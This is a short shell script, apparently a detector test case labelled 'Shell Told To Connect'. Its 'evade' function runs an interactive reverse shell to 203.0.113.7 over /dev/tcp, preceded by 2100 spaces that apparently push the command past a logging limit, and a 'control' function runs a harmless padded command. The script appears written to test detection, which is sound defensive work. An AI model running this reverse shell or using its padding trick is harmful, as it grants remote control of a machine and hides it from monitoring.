#!/bin/sh
# What a shell is given begins with more blanks than were once kept of arguments
# kind: K6
# finds: Shell Told To Connect

learn() {
    control
}

control() {
    sh -c "$(printf '%2100s' '') :"
}

evade() {
    sh -c "$(printf '%2100s' '') sh -i >& /dev/tcp/203.0.113.7/443 0>&1" || :
}

"$@"
